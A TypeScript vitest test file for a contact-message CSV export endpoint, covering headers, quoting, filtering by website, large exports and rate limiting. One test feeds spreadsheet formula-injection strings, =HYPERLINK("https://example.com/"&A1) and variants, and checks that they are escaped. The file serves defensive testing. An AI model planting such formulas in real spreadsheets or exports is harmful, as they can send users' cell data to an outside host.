import { expect, it } from 'vitest'
import { codeOf } from '../../harness/workers/accounts/account.ts'
import { Browser } from '../../harness/workers/accounts/browser.ts'
import { limitOf } from '../../harness/workers/accounts/rate-limit.ts'
import { messageRow, newInbox, newMessage, newMessages } from '../../harness/workers/messages/messages.ts'

/** What a spreadsheet makes of it: every cell is quoted. */
function cellsOf(csv: string): string[][] {
  const cell = /"((?:[^"]|"")*)"(,|\r\n)/y
  const rows: string[][] = [[]]
  for (let match = cell.exec(csv); match; match = cell.exec(csv)) {
    rows.at(-1)?.push((match[1] ?? '').replaceAll('""', '"'))
    if (match[2] !== ',') rows.push([])
    if (cell.lastIndex === csv.length) return rows.slice(0, -1)
  }
  throw new Error('not CSV as it should be')
}

async function download(browser: Browser, query = '') {
  const response = await browser.fetch(`/api/messages/export${query}`)
  expect(response.status).toBe(200)
  const bytes = new Uint8Array(await response.arrayBuffer())
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  const [header = [], ...rows] = cellsOf(new TextDecoder().decode(bytes))
  return { headers: response.headers, header, rows }
}

it('exports every field of every message, of one website or all', async () => {
  const { browser, userId, draftIds } = await newInbox(2)
  const [draftId = '', second = ''] = draftIds
  const message = 'He said: "Drip, drop"\r\nand\n\n;then; 💧'
  const createdAt = new Date('2026-11-22T10:00:00.123Z')
  const full = { name: 'Müller, Jürgen', phone: '0660 1', message, preferredTime: '2026-11-30T14:30', createdAt }
  await newMessage({ userId, draftId }, { ...full, readAt: new Date('2026-11-22T11:00:00Z') })
  await newMessage({ userId, draftId: second }, { folder: 'spam', spamReasons: '["links","words"]' })
  const other = await newInbox()
  await newMessage(other.of, { name: 'foreign' })
  const { headers, header, rows } = await download(browser)
  expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
  expect(headers.get('content-disposition')).toBe('attachment; filename="messages.csv"')
  expect(headers.get('cache-control')).toBe('no-store')
  expect(header).toEqual([
    ...['Received', 'Website', 'Folder', 'Name', 'Email', 'Phone', 'Preferred time', 'Message', 'Language'],
    ...['Sent from', 'Read', 'Replied', 'Kept apart because of'],
  ])
  expect(rows).toHaveLength(2)
  expect(rows[0]).toEqual([
    ...['2026-11-22T10:00:00.123Z', 'Website 0', 'inbox', 'Müller, Jürgen', 'grace@example.com', '0660 1'],
    ...['2026-11-30T14:30', message, 'en', 'ada.localhost', '2026-11-22T11:00:00.000Z', 'no', ''],
  ])
  expect(rows[1]?.at(-1)).toBe('links, words')
  expect((await download(browser, `?draftId=${second}`)).rows).toHaveLength(1)
  expect((await download(browser, `?draftId=${other.draftId}`)).rows).toEqual([])
})

it('exports a header row without messages', async () => {
  const { browser } = await newInbox()
  const { header, rows } = await download(browser)
  expect([header.length, rows]).toEqual([13, []])
})

it('escapes every cell that a spreadsheet would run as a formula', async () => {
  const { browser, of } = await newInbox()
  const begins = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']
  for (const begin of begins) {
    const text = `${begin}HYPERLINK("https://example.com/"&A1)`
    await newMessage(of, { name: text, phone: text, message: text, email: `${begin}a@example.com` })
  }
  const { rows } = await download(browser)
  expect(rows).toHaveLength(begins.length)
  const marked = rows.flat().filter((cell) => cell.startsWith("'"))
  expect(marked).toHaveLength(begins.length * 4)
  expect(new Set(marked.map((cell) => cell[1]))).toEqual(new Set(begins))
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
})

it('exports each of thousands of messages once', async () => {
  const { browser, of } = await newInbox()
  const moments = [new Date('2026-01-01T00:00:00Z'), new Date('2026-01-02T00:00:00Z')]
  const folders = ['inbox', 'archive', 'spam'] as const
  const rows = Array.from({ length: 1_501 }, (_, index) =>
    messageRow(of, { name: `n${index}`, createdAt: moments[index % 2] as Date, folder: folders[index % 3] as 'inbox' }),
  )
  await newMessages(rows)
  const names = (await download(browser)).rows.map((row) => row[3])
  expect(names).toHaveLength(1_501)
  expect(new Set(names)).toEqual(new Set(rows.map(({ name }) => name)))
})

it('limits the number of exports', async () => {
  const { browser } = await newInbox()
  const limited = new Browser({ COSTLY_LIMIT: limitOf(1) })
  for (const [name, value] of browser.cookies) limited.cookies.set(name, value)
  await download(limited)
  expect(codeOf(await limited.get('/api/messages/export'))).toBe('too_many_requests')
})
